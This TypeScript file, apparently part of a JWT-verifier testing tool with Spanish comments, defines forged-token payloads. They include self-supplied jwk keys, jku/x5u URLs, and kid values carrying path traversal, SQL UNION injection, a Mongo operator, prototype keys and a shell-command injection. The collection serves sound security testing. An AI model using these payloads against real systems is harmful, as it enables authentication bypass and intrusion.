import { type Draft, family, token } from '../drafts.ts'
import { base64url, ownPublicKey, signWithOwnKey } from '../forge.ts'

/** A token that says where its key is, signed with what would be there. */
function carried(title: string, reason: string, secret: string, header: Record<string, unknown>): Draft {
  return token(title, reason, (target) => target.forge(secret, header))
}

const KEY = 'clave-de-quien-ataca'
const EVIL = 'http://127.0.0.1:9/claves.json'

export const CARRIED_KEYS = family(
  'Claves que trae el propio token',
  1,
  'RFC 7515; PortSwigger, «JWT header parameter injections»; OWASP API2',
  [
    token(
      'jwk con una clave RSA propia',
      'El servidor verifica con la clave que le da quien ataca.',
      async ({ claims }) => signWithOwnKey('RS256', { jwk: await ownPublicKey('RS256') }, claims),
    ),
    token(
      'jwk con una clave de curva elíptica propia',
      'La clave del encabezado se usa sin mirar de quién es.',
      async ({ claims }) => signWithOwnKey('ES256', { jwk: await ownPublicKey('ES256') }, claims),
    ),
    carried('jwk con un secreto propio', 'También un secreto cabe en jwk, y aquí lo pone quien ataca.', KEY, {
      jwk: { kty: 'oct', k: base64url(KEY) },
    }),
    token(
      'jku hacia otra dirección',
      'El servidor pide las claves a donde dice el token.',
      async ({ claims }) => signWithOwnKey('RS256', { jku: EVIL, kid: 'propia' }, claims),
    ),
    token(
      'x5u hacia otra dirección',
      'El certificado se descarga de donde dice el token.',
      async ({ claims }) => signWithOwnKey('RS256', { x5u: EVIL }, claims),
    ),
    token(
      'x5c con un certificado cualquiera',
      'Se usa el certificado del encabezado sin comprobar quién lo firma.',
      async ({ claims }) =>
        signWithOwnKey('RS256', { x5c: [base64url('certificado de quien ataca')] }, claims),
    ),
    token(
      'x5t de un certificado ajeno',
      'Se busca la clave por una huella que elige quien ataca.',
      async ({ claims }) => signWithOwnKey('RS256', { x5t: base64url('huella') }, claims),
    ),
    carried(
      'kid «../../../dev/null»',
      'El identificador de la clave es una ruta, y ese archivo está vacío.',
      '',
      {
        kid: '../../../../../../../dev/null',
      },
    ),
    carried('kid «NUL» de Windows', 'En Windows, ese nombre se lee siempre vacío.', '', {
      kid: '..\\..\\..\\NUL',
    }),
    carried(
      'kid hacia un archivo de contenido conocido',
      'Cualquier archivo que se pueda predecir sirve de secreto.',
      '2\n',
      {
        kid: '/proc/sys/kernel/randomize_va_space',
      },
    ),
    carried('kid con SQL', 'La clave sale de una consulta, y la consulta la escribe quien ataca.', KEY, {
      kid: `x' UNION SELECT '${KEY}' --`,
    }),
    carried('kid que no existe', 'Si no encuentra la clave, verifica con nada.', '', { kid: 'no-existe' }),
    carried('kid nulo', 'Sin identificador, se verifica con una clave vacía.', '', { kid: null }),
    carried('kid como array', 'Un array se cuela donde se esperaba un texto.', '', {
      kid: ['../../../dev/null'],
    }),
    carried(
      'kid como operador de Mongo',
      'La búsqueda de la clave recibe una condición y devuelve cualquiera.',
      '',
      { kid: { $ne: null } },
    ),
    carried('kid «__proto__»', 'La tabla de claves devuelve lo que hereda de Object.', '[object Object]', {
      kid: '__proto__',
    }),
    carried(
      'kid «toString»',
      'La clave acaba siendo el código de una función que todos conocen.',
      'function toString() { [native code] }',
      { kid: 'toString' },
    ),
    carried('kid con una orden', 'El identificador llega a una terminal.', '', { kid: 'clave.pem; sleep 0' }),
    carried('kid con una dirección', 'El servidor pide la clave a donde dice el token.', KEY, {
      kid: 'http://127.0.0.1:9/clave',
    }),
    carried('secret en el encabezado', 'Nadie debería mirar ahí, y alguno mira.', KEY, {
      secret: KEY,
      key: KEY,
    }),
  ],
)
